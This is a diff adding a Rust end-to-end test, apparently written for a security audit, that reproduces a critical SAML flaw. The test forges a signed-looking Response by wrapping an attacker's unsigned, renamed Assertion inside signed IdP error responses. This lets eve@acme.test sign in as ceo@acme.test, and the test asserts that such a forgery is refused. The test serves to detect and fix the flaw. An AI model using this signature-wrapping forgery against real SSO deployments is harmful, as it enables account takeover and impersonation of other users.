@@ -950,3 +950,140 @@ fn attack_survey() {
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
+
+// ---------------------------------------------------------------------------------------------
+// Finding 1 end to end: through the real ACS, with a database, against the samlify test IdP.
+// ---------------------------------------------------------------------------------------------
+
+/// An error Response (no Assertion) signed with the test IdP's own key, as an IdP signs its
+/// error answers (the samlify test IdP has no mode for them, so xmlsec1 plays that part).
+fn idp_signed_error_response(id: &str, issuer: &str) -> String {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/saml_idp");
+    let xml = format!(
+        "<samlp:Response xmlns:samlp=\"{SAMLP}\" xmlns:saml=\"{SAML}\" ID=\"{id}\" Version=\"2.0\" IssueInstant=\"2026-01-01T00:00:00Z\"><saml:Issuer>{issuer}</saml:Issuer>{}<samlp:Status><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Responder\"><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:NoPassive\"/></samlp:StatusCode></samlp:Status></samlp:Response>",
+        template(&format!("#{id}"), &std_transforms(), 1)
+    );
+    xmlsec_sign(&xml, &dir.join("idp.key"), &dir.join("idp.crt"), &[])
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+#[ignore = "FINDING 1 end to end (critical): fails on branch saml — eve@acme.test signs in as ceo@acme.test"]
+async fn finding_1_end_to_end_a_forged_response_signs_in_as_another_user() {
+    use axum::http::{Method, StatusCode};
+    use base64::Engine as _;
+    use serde_json::json;
+
+    use crate::helpers::{param, sign_in_app, verified_domain, Dialect, ORIGIN, VENDOR_CB};
+    use crate::saml_idp::{Post, TestIdp};
+
+    let (app, idp) = (sign_in_app(Dialect::Sqlite).await, TestIdp::start());
+    let org = app.create_org("Acme").await;
+    verified_domain(&app, &org, "acme.test").await;
+    let r = app
+        .api(
+            Method::POST,
+            &format!("/api/v1/organizations/{org}/connections"),
+            Some(json!({"type": "saml", "name": "Okta SAML", "idp": "okta", "saml": {"idp_metadata_url": idp.entity_id()}})),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
+    let id = r.json()["id"].as_str().unwrap().to_owned();
+    crate::helpers::activate_connection(&app, &id).await;
+    async fn start(app: &crate::helpers::TestApp, org: &str) -> String {
+        let r = app
+            .browser_get(
+                &format!("/sso/authorize?organization={org}&redirect_uri={VENDOR_CB}&state=s"),
+                None,
+            )
+            .await;
+        r.header("location").unwrap()
+    }
+    let code_of = |r: &crate::helpers::TestResponse| {
+        r.header("location")
+            .and_then(|l| url::Url::parse(&l).ok())
+            .and_then(|u| param(&u, "code"))
+    };
+    // The victim exists: ceo@acme.test signed in once.
+    idp.set_user(json!({"name_id": "ceo@acme.test", "email": "ceo@acme.test", "first_name": "C", "last_name": "Eo", "groups": ["Admins"]})).await;
+    let post = idp.login(&start(&app, &org).await).await;
+    let victim = crate::helpers::exchange(&app, &code_of(&idp.post_to(&app, &post).await).unwrap())
+        .await
+        .json();
+    // The attacker, eve@acme.test, starts her own sign-in and keeps the IdP's answer.
+    idp.set_user(json!({"name_id": "eve@acme.test", "email": "eve@acme.test", "first_name": "Eve", "last_name": "X", "groups": []})).await;
+    let mine = idp.login(&start(&app, &org).await).await;
+    let legit = String::from_utf8(
+        base64::engine::general_purpose::STANDARD
+            .decode(mine.saml_response.as_bytes())
+            .unwrap(),
+    )
+    .unwrap();
+    // Her own (legit) Assertion, unsigned and renamed to the victim, every namespace it uses
+    // declared on it.
+    let doc = roxmltree::Document::parse(&legit).unwrap();
+    let a = doc
+        .descendants()
+        .find(|n| n.tag_name().namespace() == Some(SAML) && n.tag_name().name() == "Assertion")
+        .unwrap();
+    let mut evil = legit[a.range()].to_owned();
+    if let Some(s) = a
+        .children()
+        .find(|n| n.tag_name().namespace() == Some(DS) && n.tag_name().name() == "Signature")
+    {
+        evil = evil.replacen(&legit[s.range()], "", 1);
+    }
+    let own_decls = &legit[a.range().start..a.range().start + evil.find('>').unwrap()];
+    let decls: String = a
+        .namespaces()
+        .filter(|ns| {
+            let attr = match ns.name() {
+                Some(p) => format!("xmlns:{p}="),
+                None => "xmlns=".to_owned(),
+            };
+            !own_decls.contains(&attr)
+        })
+        .map(|ns| match ns.name() {
+            Some(p) => format!(" xmlns:{p}=\"{}\"", ns.uri()),
+            None => format!(" xmlns=\"{}\"", ns.uri()),
+        })
+        .collect();
+    let qname_end = evil.find([' ', '>']).unwrap();
+    evil.insert_str(qname_end, &decls);
+    let evil = evil.replace("eve@acme.test", "ceo@acme.test");
+    let root = doc.root_element();
+    let irt = root.attribute("InResponseTo").unwrap();
+    let acs = format!("{ORIGIN}/sso/saml/{id}/acs");
+    // Two error Responses the IdP signed (T and U).
+    let t = idp_signed_error_response("_err_t", &idp.entity_id());
+    let u = idp_signed_error_response("_err_u", &idp.entity_id());
+    let t = t[t.find("<samlp:Response").unwrap()..].trim_end().to_owned();
+    let u = u[u.find("<samlp:Response").unwrap()..].trim_end().to_owned();
+    let u_sig = span(&u, "<ds:Signature", "</ds:Signature>").to_owned();
+    let u_bare = u.replacen(&u_sig, "", 1);
+    let t_with_evil = t.replacen(
+        "</ds:Signature>",
+        &format!("<ds:Object>{evil}</ds:Object></ds:Signature>"),
+        1,
+    );
+    let forged = format!(
+        "<samlp:Response xmlns:samlp=\"{SAMLP}\" xmlns:saml=\"{SAML}\" ID=\"_forged\" Version=\"2.0\" IssueInstant=\"2026-01-01T00:00:00Z\" Destination=\"{acs}\" InResponseTo=\"{irt}\"><saml:Issuer>{}</saml:Issuer>{u_sig}<samlp:Extensions>{u_bare}{t_with_evil}</samlp:Extensions><samlp:Status><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status></samlp:Response>",
+        idp.entity_id()
+    );
+    let post = Post {
+        action: mine.action.clone(),
+        saml_response: base64::engine::general_purpose::STANDARD.encode(forged.as_bytes()),
+        relay_state: mine.relay_state.clone(),
+    };
+    let r = idp.post_to(&app, &post).await;
+    let code = code_of(&r);
+    if let Some(c) = &code {
+        let j = crate::helpers::exchange(&app, c).await.json();
+        eprintln!(
+            "FORGED SIGN-IN: profile {} {} (victim's profile id {})",
+            j["profile"]["id"], j["profile"]["email"], victim["profile"]["id"]
+        );
+    } else {
+        eprintln!("forged response refused: {} {}", r.status, r.text());
+    }
+    assert!(code.is_none(), "the forged response signed eve in as ceo@acme.test");
+}
